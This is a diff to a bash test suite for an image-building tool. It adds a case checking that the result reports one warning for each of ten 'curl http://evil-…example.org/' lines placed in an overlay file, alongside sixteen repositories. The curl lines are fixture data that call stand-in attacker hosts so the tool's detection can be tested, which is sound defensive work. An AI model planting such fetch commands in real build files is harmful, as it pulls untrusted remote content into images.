@@ -1,5 +1,5 @@
 # shellcheck shell=bash
-# Cases of the git source's paths, and of what the image's provenance is told of the repositories.
+# Cases of the git source's paths, and of what results and the image's provenance are told of the repositories.
 # shellcheck disable=SC2016 # jq programs stand in single quotes
 # shellcheck disable=SC2154 # variables are set by run and harness.bash
 
@@ -61,4 +61,18 @@ case_source_reports_each_repository_with_the_digest_of_its_release_file() {
   check "the digest of the inputs stays" test "$(value source '.inputsDigest | test("^sha256:")')" = true
   check "the record has all" test "$(jq '.repositories | length' "$directory/workspace/imagefactory-$uid/state/source.json")" = 32
   echo "note: $(value source '.repositories | length') of 32 repositories fit into a result"
+}
+
+case_warnings_are_in_the_result_however_many_repositories_there_are() {
+  local port=''
+  write_release debian/dists/stable main/binary-amd64/ 'Suite: stable'
+  serve "$directory/mirror"
+  write_kiwi_input '.profile.repositories = [range(16) | {name: ("a-repository-with-quite-a-long-name-as-it-is-allowed-to-have-\(.)"),
+      url: "http://127.0.0.1:\($port)/debian", suite: "stable", $keyring}]
+    | .profile.builder.kiwi.files["root/etc/a-file-somewhere-below-the-overlay-whose-name-is-as-long-as-names-are-in-practice/x.sh"] =
+      ([range(10) | "curl http://evil-\(.)-with-a-long-name-as-clouds-have-them.compute.internal.example.org/"] | join("\n"))' \
+    --arg port "$port" --arg keyring "$(<"$rpm_repository/key.asc")"
+  stages source prepare
+  check "the warnings" test "$(value prepare '.warnings | length')" = 10
+  check "all signers are counted" test "$(value prepare '(.signers | length) + .signersLeftOut')" = 16
 }
